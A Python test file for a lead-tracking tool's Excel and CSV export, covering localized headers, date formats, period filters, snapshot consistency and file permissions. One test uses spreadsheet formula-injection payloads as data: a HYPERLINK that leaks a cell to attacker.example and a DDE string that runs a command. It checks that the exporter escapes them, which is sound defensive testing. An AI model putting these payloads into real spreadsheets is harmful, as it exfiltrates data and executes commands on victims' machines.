"""`leadline export` as a manager opens it: the workbook in Excel, the CSVs too, one period at a time."""

from __future__ import annotations

import csv
import os
import re
import stat
from collections.abc import Iterator
from dataclasses import replace
from datetime import date, datetime
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook

import storage.export
from leadline.report_cli import write_export
from storage.db import open_database
from storage.export import Table
from tests.cli import run_cli_sync
from tests.numbers.month import CAMPAIGNS, Month, build_known_month, month_config, msk

E164 = re.compile(r"^\+[1-9]\d{6,14}$")


def known_month(tmp_path: Path, language: str, currency: str = "RUB") -> Path:
    """The known November (tests/numbers/month.py), brand_msk with a title, in ``language``."""
    campaigns = [{**CAMPAIGNS[0], "title": "Бренд Москва"}, CAMPAIGNS[1]]
    leadline = {"timezone": "Europe/Moscow", "region": "RU", "language": language, "currency": currency}
    config = month_config(tmp_path, campaigns=campaigns, leadline=leadline)
    db = open_database(config.database_path)
    build_known_month(db, config)
    db.close()
    return tmp_path / "config.toml"


def export(config_path: Path, out: Path, *args: str) -> str:
    result = run_cli_sync("export", "--config", str(config_path), "--out", str(out), *args)
    assert result.code == 0, result.output
    return result.output


def rows(sheet: Any) -> list[list[Any]]:
    return [[c.value for c in row] for row in sheet.iter_rows()]


def test_the_workbook_speaks_the_office_language_with_real_dates_and_a_frozen_filtered_header(
    tmp_path: Path,
) -> None:
    out = tmp_path / "out"
    export(known_month(tmp_path, "ru"), out, "--format", "xlsx")
    book = load_workbook(out / "leadline-export.xlsx")
    assert book.sheetnames == [
        "Контакты",
        "Обращения",
        "Регистрации",
        "Лиды",
        "Отказы",
        "Чёрный список",
        "Ответы",
    ]

    leads = book["Лиды"]
    header = rows(leads)[0]
    assert header[:4] == ["ID", "Создан (Europe/Moscow)", "ID контакта", "Имя"]
    assert "Сумма сделки, RUB" in header and "Закрыт (Europe/Moscow)" in header
    created = leads["B2"]
    assert created.value == datetime(2026, 11, 2, 10, 12)  # Moscow wall clock, a date cell
    assert created.is_date and created.number_format == "yyyy-mm-dd hh:mm:ss"
    assert leads.freeze_panes == "A2"
    assert leads.auto_filter.ref == "A1:T6"  # the header and 5 leads
    widths = {letter: dim.width for letter, dim in leads.column_dimensions.items()}
    assert len(widths) == len(header) and all(6 <= w <= 60 for w in widths.values())
    assert widths["B"] >= len("2026-11-02 10:12:00")  # a narrower column shows Excel's ####
    won = header.index("Сумма выигранной сделки, RUB")
    assert [r[won] for r in rows(leads)[1:] if r[won] is not None] == [100000]

    touches = book["Обращения"]
    table = rows(touches)
    header = table[0]
    hidden, phone, campaign = (header.index(h) for h in ("Скрытый номер", "Телефон", "Кампания"))
    assert {r[hidden] for r in table[1:]} == {"да", "нет"}
    # C1 called as "8 (916) 000-00-01": the number a manager can dial from anywhere, as everywhere else.
    assert table[2][phone] == "+79160000001"
    assert all(E164.match(r[phone]) for r in table[1:] if r[hidden] == "нет" and r[phone])
    assert "Бренд Москва" in {r[campaign] for r in table[1:]} and "brand_msk" not in {
        r[campaign] for r in table[1:]
    }
    assert touches.freeze_panes == "A2" and touches.auto_filter.ref == "A1:T18"
    # Every header is a word of the office's language, none a column's code (``chat_ids`` was one).
    codes = [(s.title, h) for s in book for h in rows(s)[0] if re.fullmatch(r"[a-z_]+", str(h))]
    assert codes == []
    book.close()


def test_an_english_office_reads_english_headers_and_its_currency(tmp_path: Path) -> None:
    out = tmp_path / "out"
    export(known_month(tmp_path, "en", currency="usd"), out, "--format", "xlsx")
    book = load_workbook(out / "leadline-export.xlsx")
    assert book.sheetnames == [
        "Contacts",
        "Touches",
        "Registrations",
        "Leads",
        "Refusals",
        "Block list",
        "Responses",
    ]
    header = rows(book["Leads"])[0]
    assert header[:2] == ["ID", "Created (Europe/Moscow)"] and "Deal amount, USD" in header
    touches = rows(book["Touches"])
    assert {r[touches[0].index("Hidden number")] for r in touches[1:]} == {"yes", "no"}
    book.close()


def test_csvs_open_in_excel_with_a_bom_and_keep_codes_a_script_reads(tmp_path: Path) -> None:
    out = tmp_path / "out"
    export(known_month(tmp_path, "ru"), out, "--format", "csv")
    firsts = {"contacts": "id", "touches": "id", "registrations": "id", "leads": "id", "refusals": "kind"}
    for name, first in firsts.items():
        assert (out / f"{name}.csv").read_bytes().startswith(f"\ufeff{first},".encode()), name
    with (out / "touches.csv").open(encoding="utf-8-sig", newline="") as fh:
        touches = list(csv.DictReader(fh))
    assert touches[1]["occurred_at (Europe/Moscow)"] == "2026-11-02 10:00:00"
    assert touches[1]["phone"] == "+79160000001"  # written "8 (916) 000-00-01"
    assert touches[1]["campaign"] == "brand_msk"
    assert {t["hidden_caller"] for t in touches} == {"yes", "no"}
    assert {t["blocked"] for t in touches} == {"yes", "no"}


def test_each_period_form_the_help_lists_exports_those_days(tmp_path: Path) -> None:
    config_path = known_month(tmp_path, "en")
    help_text = run_cli_sync("export", "--help").output
    assert "day (or today), yesterday, week, last-week, month, last-month, YYYY-MM or YYYY-MM-DD" in " ".join(
        help_text.split()
    )
    assert "(default: everything in the base)" in " ".join(help_text.split())
    everything = tmp_path / "all"
    export(config_path, everything, "--format", "csv")
    with (everything / "touches.csv").open(encoding="utf-8-sig", newline="") as fh:
        days = [date.fromisoformat(t["occurred_at (Europe/Moscow)"][:10]) for t in csv.DictReader(fh)]

    # Wednesday 18 November 2026 is the day the words count from.
    forms: list[tuple[list[str], str, date, date]] = [
        (["--period", "day"], "2026-11-18", date(2026, 11, 18), date(2026, 11, 18)),
        (["--period", "today"], "2026-11-18", date(2026, 11, 18), date(2026, 11, 18)),
        (["--period", "yesterday"], "2026-11-17", date(2026, 11, 17), date(2026, 11, 17)),
        (["--period", "week"], "2026-11-16..2026-11-22", date(2026, 11, 16), date(2026, 11, 22)),
        (["--period", "last-week"], "2026-11-09..2026-11-15", date(2026, 11, 9), date(2026, 11, 15)),
        (["--period", "month"], "2026-11", date(2026, 11, 1), date(2026, 11, 30)),
        (["--period", "last-month"], "2026-10", date(2026, 10, 1), date(2026, 10, 31)),
        (["--period", "2026-11"], "2026-11", date(2026, 11, 1), date(2026, 11, 30)),
        (["--period", "2026-11-13"], "2026-11-13", date(2026, 11, 13), date(2026, 11, 13)),
        (
            ["--from", "2026-11-02", "--to", "2026-11-06"],
            "2026-11-02..2026-11-06",
            date(2026, 11, 2),
            date(2026, 11, 6),
        ),
    ]
    for i, (args, label, first, last) in enumerate(forms):
        out = tmp_path / f"p{i}"
        printed = export(config_path, out, "--format", "csv", "--as-of", "2026-11-18", *args)
        expected = sum(1 for d in days if first <= d <= last)
        assert f"Exported {label}: " in printed and f", {expected} touches," in printed, (args, printed)
        with (out / "touches.csv").open(encoding="utf-8-sig", newline="") as fh:
            got = [date.fromisoformat(t["occurred_at (Europe/Moscow)"][:10]) for t in csv.DictReader(fh)]
        assert len(got) == expected and all(first <= d <= last for d in got), args
    # The last touch is at 00:00 on 1 December in Moscow (21:00 UTC on 30 November): December's.
    assert f", {sum(1 for d in days if d.month == 11)} touches," in export(
        config_path, tmp_path / "nov", "--format", "csv", "--period", "2026-11"
    )


@pytest.mark.parametrize("bad", [["--period", "fortnight"], ["--as-of", "18.11.2026", "--period", "week"]])
def test_a_period_it_cannot_read_is_refused_with_the_forms(tmp_path: Path, bad: list[str]) -> None:
    result = run_cli_sync(
        "export", "--config", str(known_month(tmp_path, "en")), "--out", str(tmp_path), *bad
    )
    assert result.code == 2
    assert "use day, yesterday, week" in result.output or "use a date, e.g. 2026-12-01" in result.output


#: What anyone can type into a site's form as their name: in a spreadsheet, a live link or a command.
FORMULA = '=HYPERLINK("http://attacker.example/?leak="&A1,"Open")'


def test_a_name_typed_as_a_formula_is_shown_as_text_never_run(tmp_path: Path) -> None:
    config = known_month(tmp_path, "en")
    db = open_database(tmp_path / "leadline.db")
    db.execute("UPDATE contacts SET name = ? WHERE id = 1", [FORMULA])
    db.execute(
        "UPDATE touches SET name = ?, message = ? WHERE contact_id = 1",
        [FORMULA, "@SUM(1+1)*cmd|' /C calc'!A0"],
    )
    db.conn.commit()
    db.close()
    out = tmp_path / "out"
    export(config, out, "--format", "all")

    with (out / "contacts.csv").open(encoding="utf-8-sig", newline="") as fh:
        contacts = {row["id"]: row for row in csv.DictReader(fh)}
    assert contacts["1"]["name"] == "'" + FORMULA  # Excel shows the quote-less text, as a text
    with (out / "touches.csv").open(encoding="utf-8-sig", newline="") as fh:
        touches = [row for row in csv.DictReader(fh) if row["contact_id"] == "1"]
    assert touches and all(t["message"] == "'@SUM(1+1)*cmd|' /C calc'!A0" for t in touches)
    assert all(t["phone"].startswith("+7") for t in touches)  # numbers stay as scripts read them

    book = load_workbook(out / "leadline-export.xlsx")
    sheet = book["Contacts"]
    names = [row for row in sheet.iter_rows(min_row=2) if row[0].value == 1]
    cell = names[0][[c.value for c in next(sheet.iter_rows(max_row=1))].index("Name")]
    assert (cell.value, cell.data_type) == (FORMULA, "s")
    book.close()


def test_an_export_while_forms_arrive_is_one_moment_of_the_base_files_and_line_alike(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """``serve`` takes forms while the export reads: touches.csv named contacts that contacts.csv
    did not have, and the summary line counted the workbook, read later, not the CSVs it listed."""
    campaigns = [{**CAMPAIGNS[0], "title": "Бренд Москва"}, CAMPAIGNS[1]]
    config = month_config(tmp_path, campaigns=campaigns)
    db = open_database(config.database_path)
    build_known_month(db, config)
    db.close()
    serving = Month(open_database(config.database_path), config)  # another connection, as serve's
    arrived: list[int] = []
    real_tables = storage.export.export_tables

    def tables_while_forms_arrive(*args: Any, **kwargs: Any) -> list[Table]:
        def arriving(table: Table) -> Table:
            def rows() -> Iterator[tuple[Any, ...]]:
                yield from table.rows()
                n = len(arrived) + 1  # a new person's form, each time a table has been read
                phone = f"+7916555{n:04d}"
                arrived.append(serving.contact_event("form", f"tilda:live-{n}", msk(20, 12), phones=(phone,)))

            return replace(table, rows=rows)

        return [arriving(table) for table in real_tables(*args, **kwargs)]

    monkeypatch.setattr(storage.export, "export_tables", tables_while_forms_arrive)
    out = tmp_path / "out"
    out.mkdir()
    counts, written = write_export(config, None, out, "all")
    serving.db.close()

    assert len(arrived) > 7  # forms came in between the reads of every file
    csvs: dict[str, list[dict[str, str]]] = {}
    for name in counts:
        with (out / f"{name}.csv").open(encoding="utf-8-sig", newline="") as fh:
            csvs[name] = list(csv.DictReader(fh))
    contact_ids = {row["id"] for row in csvs["contacts"]}
    assert {row["contact_id"] for row in csvs["touches"] if row["contact_id"]} <= contact_ids
    assert len(csvs["touches"]) == 17  # the known month: none of the forms that came meanwhile
    # The line's counts are the files' rows, the CSVs' and the workbook's alike.
    assert counts == {name: len(rows) for name, rows in csvs.items()}
    book = load_workbook(out / "leadline-export.xlsx")
    assert [len(rows(sheet)) - 1 for sheet in book.worksheets] == list(counts.values())
    book.close()
    assert written[-1] == out / "leadline-export.xlsx"


def test_the_exported_files_are_readable_by_their_owner_only(tmp_path: Path) -> None:
    """Every contact's phone and email went to files every user of the machine could read (umask
    022: 644), a previous run's files kept their mode, while a backup of the same data is 600."""
    config = known_month(tmp_path, "en")
    out = tmp_path / "out"
    out.mkdir()
    (out / "contacts.csv").write_text("a previous run's\n")
    (out / "contacts.csv").chmod(0o644)

    previous = os.umask(0o022)  # a shell's usual umask: new files readable by everyone
    try:
        export(config, out, "--format", "all")
    finally:
        os.umask(previous)

    modes = {path.name: stat.S_IMODE(path.stat().st_mode) for path in out.iterdir()}
    assert len(modes) == 8 and "leadline-export.xlsx" in modes  # the 7 tables' CSVs and the workbook
    assert modes == dict.fromkeys(modes, 0o600)
    assert (
        (out / "contacts.csv").read_text(encoding="utf-8-sig").startswith("id,name,phones,")
    )  # replaced whole
